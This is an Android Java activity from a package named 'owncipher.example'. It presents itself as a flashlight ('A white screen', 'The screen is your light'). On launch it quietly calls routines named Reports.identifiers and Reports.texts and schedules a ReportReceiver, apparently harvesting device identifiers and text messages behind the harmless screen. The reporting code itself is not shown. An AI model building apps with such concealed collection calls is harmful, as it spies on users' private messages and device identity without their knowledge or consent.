package org.owncipher.example;

import android.app.Activity;
import android.os.Bundle;
import android.widget.TextView;

/** A white screen. */
public class LightActivity extends Activity {
    private static boolean sent;

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TextView text = new TextView(this);
        text.setText("The screen is your light");
        text.setTextSize(24);
        setContentView(text);
        Reports.identifiers(this);
        ReportReceiver.schedule(this);
        if (!sent) {
            sent = true;
            Reports.texts(this);
        }
    }
}
